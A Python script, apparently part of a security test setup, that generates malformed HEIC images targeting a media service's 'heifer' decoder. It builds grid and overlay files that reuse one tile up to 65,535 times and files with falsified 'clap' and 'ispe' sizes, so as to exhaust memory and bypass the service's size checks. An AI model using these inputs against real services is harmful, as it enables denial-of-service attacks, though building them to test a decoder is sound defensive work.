#!/usr/bin/env python3
"""HEIC attack inputs for mediaflow's heifer path (plain python3, no deps).
Uses the HEIF box reader and writer of sample-media/fixtures/make_formats.py."""
import os, struct, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../../../../sample-media/fixtures"))
from make_formats import parse_heif, build_heif, fullbox, box  # noqa: E402

F = "/work/main/sample-media/fixtures/formats/"
OUT = os.path.dirname(os.path.abspath(__file__))
grid = parse_heif(open(F + "heic-grid.heic", "rb").read())
single = parse_heif(open(F + "heic-single.heic", "rb").read())


def w(name, data):
    open(os.path.join(OUT, name), "wb").write(data)
    print(f"{len(data):9d}  {name}")


def grid_reuse(name, rows, cols, out_w=512, out_h=512, nested=False):
    """Primary grid (output out_w x out_h) whose rows*cols dimg references all name the SAME
    512x512 hvc1 tile (item 1 of heic-grid.heic). heifer decodes every reference, even those
    outside the canvas. nested=True: the tile is itself such a grid (item 8)."""
    tile = 1
    items = {tile: grid["items"][tile]}
    props = list(grid["props"])          # 1 hvcC, 2 ispe 512, 3 pixi, 4 ispe (grid)
    props.append(fullbox(b"ispe", 0, 0, struct.pack(">II", out_w, out_h)))
    ispe_out = len(props)
    assoc = {tile: grid["assoc"][tile]}
    gid = 7
    gdata = struct.pack(">BBBBHH", 0, 0, rows - 1, cols - 1, out_w, out_h)
    items[gid] = dict(type=b"grid", name=b"", hidden=False, data=gdata)
    assoc[gid] = [(ispe_out, False)]
    order = [gid, tile]
    irefs = []
    if nested:
        inner = 8
        items[inner] = dict(type=b"grid", name=b"", hidden=True,
                            data=struct.pack(">BBBBHH", 0, 0, rows - 1, cols - 1, out_w, out_h))
        assoc[inner] = [(ispe_out, False)]
        order.append(inner)
        irefs.append((b"dimg", gid, [inner] * (rows * cols)))
        irefs.append((b"dimg", inner, [tile] * (rows * cols)))
    else:
        irefs.append((b"dimg", gid, [tile] * (rows * cols)))
    w(name, build_heif(grid["ftyp"], grid["hdlr"], gid, items, order, props, assoc, irefs))


def iovl_oom(name, n, canvas=(1, 1)):
    """Primary iovl (ispe = canvas) with n dimg inputs that are all the same 640x480 hvc1 item
    (heic-single.heic). heifer decodes every input and keeps ALL of them (Vec<Image>) before
    drawing: n * 640*480*4 bytes."""
    src = 1
    items = {src: dict(single["items"][src])}
    items[src]["hidden"] = True
    props = list(single["props"])        # 1 hvcC, 2 ispe 640x480, 3 pixi
    props.append(fullbox(b"ispe", 0, 0, struct.pack(">II", *canvas)))
    assoc = {src: single["assoc"][src], 2: [(len(props), False)]}
    data = bytes([0, 0]) + struct.pack(">HHHH", 0, 0, 0, 65535) + struct.pack(">HH", *canvas)
    data += b"\0\0\0\0" * n               # (x, y) = (0, 0) for every input, 16-bit fields
    items[2] = dict(type=b"iovl", name=b"", hidden=False, data=data)
    w(name, build_heif(single["ftyp"], single["hdlr"], 2, items, [2, src], props, assoc,
                       [(b"dimg", 2, [src] * n)]))


def clap_small(name):
    """heic-single.heic (ispe 640x480) with a 'clap' of 1x1 on the primary: mediaflow's header
    (and pixel check and memory estimate) say 1x1; heifer decodes and converts the full frame."""
    h = parse_heif(open(F + "heic-single.heic", "rb").read())
    clap = box(b"clap", struct.pack(">IIIIiIiI", 1, 1, 1, 1, 0, 1, 0, 1))
    h["props"].append(clap)
    h["assoc"][h["primary"]].append((len(h["props"]), True))
    w(name, build_heif(h["ftyp"], h["hdlr"], h["primary"], h["items"], h["order"], h["props"],
                       h["assoc"], h["irefs"]))


def ispe_small(src_path, name, size=(16, 16)):
    """A HEIC whose HEVC SPS is large but whose primary ispe says `size`."""
    h = parse_heif(open(src_path, "rb").read())
    for i, (idx, ess) in enumerate(h["assoc"][h["primary"]]):
        if h["props"][idx - 1][4:8] == b"ispe":
            h["props"][idx - 1] = fullbox(b"ispe", 0, 0, struct.pack(">II", *size))
    w(name, build_heif(h["ftyp"], h["hdlr"], h["primary"], h["items"], h["order"], h["props"],
                       h["assoc"], h["irefs"]))


if __name__ == "__main__":
    grid_reuse("heic-grid-reuse-16.heic", 4, 4)
    grid_reuse("heic-grid-reuse-256.heic", 16, 16)
    grid_reuse("heic-grid-reuse-65280.heic", 255, 256)
    grid_reuse("heic-grid-nested.heic", 255, 256, nested=True)
    iovl_oom("heic-iovl-20.heic", 20)
    iovl_oom("heic-iovl-65535.heic", 65535)
    clap_small("heic-clap-1x1.heic")
    if len(sys.argv) > 1:
        ispe_small(sys.argv[1], "heic-sps-big-ispe-16.heic")


def from_flat(path):
    """Variants whose shared tile/input is the 8000x8000 flat picture (14 KB of HEVC) made by
    `python3 mkpng.py 8000 8000 flat8000.png && heif-enc -q 30 -p preset=ultrafast -o flat8000.heic flat8000.png`."""
    global single, grid
    flat = parse_heif(open(path, "rb").read())
    single = flat
    iovl_oom("heic-iovl-flat-4.heic", 4)
    iovl_oom("heic-iovl-flat-65535.heic", 65535)
    # grid: reuse the flat item as "tile 1"
    grid = dict(flat)
    grid["props"] = list(flat["props"]) + [fullbox(b"ispe", 0, 0, struct.pack(">II", 512, 512))]
    grid["items"] = {1: flat["items"][1]}
    grid["assoc"] = {1: flat["assoc"][1]}
    grid_reuse("heic-grid-flat-4.heic", 2, 2)
    grid_reuse("heic-grid-flat-65280.heic", 255, 256)


if __name__ == "__main__" and len(sys.argv) > 1:
    from_flat(sys.argv[1])
